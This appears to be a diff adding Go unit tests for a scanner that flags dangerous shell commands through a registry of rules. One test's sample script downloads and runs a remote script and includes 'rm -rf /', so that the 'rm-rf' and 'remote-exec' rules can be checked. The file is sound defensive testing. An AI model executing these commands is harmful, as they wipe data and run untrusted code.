@@ -0,0 +1,85 @@
+package hazardous
+
+import (
+	"testing"
+
+	"github.com/hiteshrepo/hazardous/pkg/issue"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+	"mvdan.cc/sh/syntax"
+)
+
+type stubRule struct {
+	id string
+}
+
+func (r stubRule) ID() string               { return r.id }
+func (r stubRule) Description() string      { return "stub rule " + r.id }
+func (r stubRule) Severity() issue.Severity { return issue.SeverityInfo }
+
+func (r stubRule) Check(ctx *Context, node syntax.Node) []issue.Issue {
+	if _, ok := node.(*syntax.CallExpr); !ok {
+		return nil
+	}
+
+	return []issue.Issue{{Filepath: ctx.Filepath, Command: r.id}}
+}
+
+func TestRegistryRegister(t *testing.T) {
+	r := NewRegistry(stubRule{id: "a"})
+
+	require.NoError(t, r.Register(stubRule{id: "b"}))
+	assert.Error(t, r.Register(stubRule{id: "a"}), "duplicate IDs should be rejected")
+
+	rule, ok := r.Lookup("b")
+	require.True(t, ok)
+	assert.Equal(t, "b", rule.ID())
+
+	_, ok = r.Lookup("missing")
+	assert.False(t, ok)
+}
+
+func TestRegistryToggle(t *testing.T) {
+	r := NewRegistry(stubRule{id: "a"}, stubRule{id: "b"})
+	cmd := createCallExpr(t, "echo hello")
+	ctx := &Context{Filepath: "test.sh"}
+
+	assert.Len(t, r.Check(ctx, cmd), 2)
+
+	require.NoError(t, r.Disable("a"))
+	assert.Equal(t, []issue.Issue{{Filepath: "test.sh", Command: "b"}}, r.Check(ctx, cmd))
+	assert.Len(t, r.Rules(), 1)
+
+	require.NoError(t, r.Enable("a"))
+	assert.Len(t, r.Check(ctx, cmd), 2)
+
+	assert.Error(t, r.Disable("missing"))
+	assert.Error(t, r.Enable("missing"))
+}
+
+func TestRegistryCheckFile(t *testing.T) {
+	r := NewRegistry(stubRule{id: "a"})
+	issues := checkScript(t, r, "echo a\nif true; then echo b; fi")
+
+	assert.Len(t, issues, 3, "every CallExpr, including the if condition, should be visited")
+}
+
+func TestRegistryCheckFileOrder(t *testing.T) {
+	issues := checkScript(t, DefaultRegistry, "curl -o /tmp/a.sh https://x.example.com/a.sh\nrm -rf /\nsh /tmp/a.sh")
+	require.Len(t, issues, 2)
+
+	assert.Equal(t, "rm-rf", issues[0].RuleID)
+	assert.Equal(t, uint(2), issues[0].Line)
+	assert.Equal(t, "remote-exec", issues[1].RuleID)
+	assert.Equal(t, uint(3), issues[1].Line)
+}
+
+func TestDefaultRegistry(t *testing.T) {
+	for _, rule := range DefaultRegistry.Rules() {
+		assert.NotEmpty(t, rule.ID())
+		assert.NotEmpty(t, rule.Description())
+	}
+
+	_, ok := DefaultRegistry.Lookup("rm-rf")
+	assert.True(t, ok)
+}